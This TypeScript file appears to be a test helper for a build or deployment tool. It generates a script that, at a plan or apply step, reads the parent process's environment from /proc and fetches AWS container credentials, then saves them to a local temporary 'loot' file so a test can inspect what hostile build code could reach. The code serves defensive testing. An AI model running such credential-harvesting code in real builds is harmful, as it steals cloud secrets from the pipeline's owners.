import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import * as z from 'zod';

const CredentialsSchema = z
  .object({ AccessKeyId: z.string(), SecretAccessKey: z.string(), Token: z.string() })
  .transform(({ AccessKeyId, SecretAccessKey, Token }) => ({
    accessKeyId: AccessKeyId,
    secretAccessKey: SecretAccessKey,
    sessionToken: Token,
  }));

/** All credentials and variables that code in a build can get. */
const LootSchema = z.object({
  /** Variables of the engine, and of the build program above it. */
  own: z.record(z.string(), z.string()),
  parent: z.record(z.string(), z.string()),
  /** What the container answers if it is asked as the SDK asks it, and what the program's agent answers. */
  container: CredentialsSchema.nullable(),
  agent: CredentialsSchema.nullable(),
});
export type Loot = z.infer<typeof LootSchema>;

/** Where hostile code leaves what it found. It then waits until the test lets it go on, or removes the chest. */
export class LootChest {
  readonly directory = mkdtempSync(join(tmpdir(), 'stagegate-loot-'));

  /** Returns a file for an environment's directory: at this command of the engine it takes what it can, then waits. */
  attackAt(label: string, command: 'plan' | 'apply'): string {
    return `import { existsSync, readFileSync, writeFileSync, renameSync } from 'node:fs';
if (process.argv[2] !== '${command}') process.exit();
const loot = ${JSON.stringify(join(this.directory, label))};
const environmentOf = (pid) => Object.fromEntries(readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(Boolean).map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]));
// The engine is the parent; above it is the build program, which has read its variables.
const above = (pid) => /^PPid:\\t(\\d+)$/m.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1];
const parent = environmentOf(above(process.ppid));
const ask = async (url, token) => {
  const response = await fetch(url, { headers: token ? { authorization: token } : {} });
  return response.ok ? response.json() : null;
};
const asked = (variables) => ask(variables.AWS_CONTAINER_CREDENTIALS_FULL_URI, variables.AWS_CONTAINER_AUTHORIZATION_TOKEN).catch(() => null);
const found = { own: { ...process.env }, parent, container: await asked(parent), agent: await asked(process.env) };
writeFileSync(loot + '.draft', JSON.stringify(found));
renameSync(loot + '.draft', loot);
const isWaitedFor = () => existsSync(${JSON.stringify(this.directory)}) && !existsSync(loot + '.done');
while (isWaitedFor()) await new Promise((resolve) => setTimeout(resolve, 40));
`;
  }

  async open(label: string): Promise<Loot> {
    const file = join(this.directory, label);
    while (!existsSync(file)) await sleep(40);
    return LootSchema.parse(JSON.parse(readFileSync(file, 'utf8')));
  }

  /** Lets the code go on. */
  close(label: string): void {
    writeFileSync(join(this.directory, `${label}.done`), '');
  }

  remove(): void {
    rmSync(this.directory, { recursive: true, force: true });
  }
}
